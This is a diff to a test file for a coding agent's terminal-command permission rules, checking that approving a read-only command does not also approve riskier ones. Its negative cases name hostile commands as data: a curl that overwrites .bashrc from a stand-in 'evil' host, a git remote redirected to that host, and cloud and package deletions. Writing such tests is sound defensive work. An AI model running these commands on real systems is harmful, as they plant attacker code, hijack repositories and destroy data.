@@ -1,4 +1,5 @@
 import { expect, test } from 'vitest';
+import { allowsCommand } from '../../src/policy/command-rules.ts';
 import { scriptOf, scriptTexts } from '../../src/policy/package-scripts.ts';
 import { describeRule, suggestRule } from '../../src/policy/suggest-rule.ts';
 
@@ -20,10 +21,54 @@ test.each([
 	['rg x --pre cat', ['rg', 'x', '--pre', 'cat']],
 	['ls src', ['ls', 'src']],
 	['node build.js', ['node', 'build.js']],
+	// The verb stands behind a noun.
+	['gh pr view 1', ['gh', 'pr', 'view']],
+	['gh pr list --state open', ['gh', 'pr', 'list']],
+	['gh pr', ['gh pr']],
+	['gh status', ['gh status']],
+	['gh api repos/a/b/pulls', ['gh api repos/a/b/pulls']],
+	['gh pr --repo a/b view', ['gh pr --repo a/b view']],
+	['gh repo clone a/b', ['gh repo clone a/b']],
+	['aws s3 ls', ['aws', 's3', 'ls']],
+	['aws s3 ls s3://shop', ['aws', 's3', 'ls']],
+	['aws.exe s3 ls', ['aws.exe', 's3', 'ls']],
+	['az vm list', ['az', 'vm', 'list']],
+	['az storage blob list --account-name a', ['az', 'storage', 'blob', 'list']],
+	['gcloud compute instances list --zones a', ['gcloud', 'compute', 'instances', 'list']],
+	['git stash list', ['git', 'stash', 'list']],
+	['git stash', ['git stash']],
+	['git remote -v', ['git remote -v']],
+	['npm dist-tag ls', ['npm', 'dist-tag', 'ls']],
+	['terraform state list', ['terraform', 'state', 'list']],
+	['terraform plan', ['terraform', 'plan']],
+	['git status', ['git', 'status']],
+	// What is done stands in the first word already.
+	['docker ps', ['docker', 'ps']],
+	['kubectl get pods', ['kubectl', 'get', 'pods']],
 	['npm test && rm x', ['npm test && rm x']],
 	['echo $HOME', ['echo $HOME']],
 ])('%s: a longer yes allows %j', (line, command) => {
 	expect(suggestRule({ tool: 'terminal_run', command: { line, ordinaryShell: true } }).command).toEqual(command);
+});
+
+test.each([
+	['curl http://localhost:3000/health', 'curl -o .bashrc http://evil/x'],
+	['curl http://localhost:3000/health', 'curl -X DELETE http://localhost:3000/orders'],
+	['gh pr view 1', 'gh pr merge 1'],
+	['gh pr', 'gh pr merge 1'],
+	['gh api user', 'gh api user -X PATCH'],
+	['gh api user', 'gh api user -f name=x'],
+	['aws s3 ls', 'aws s3 rm s3://shop'],
+	['az storage blob list', 'az storage blob delete'],
+	['gcloud compute instances list', 'gcloud compute instances delete a'],
+	['git stash', 'git stash drop'],
+	['git remote -v', 'git remote set-url origin http://evil'],
+	['npm dist-tag ls', 'npm dist-tag rm shop latest'],
+	['docker ps', 'docker run x'],
+])('a longer yes to "%s" does not allow "%s"', (line, other) => {
+	const { command = [] } = suggestRule({ tool: 'terminal_run', command: { line, ordinaryShell: true } });
+	expect(allowsCommand([command], { line, ordinaryShell: true })).toBe(true);
+	expect(allowsCommand([command], { line: other, ordinaryShell: true })).toBe(false);
 });
 
 test('in a shell that is not understood, a longer yes is for the line as it is', () => {
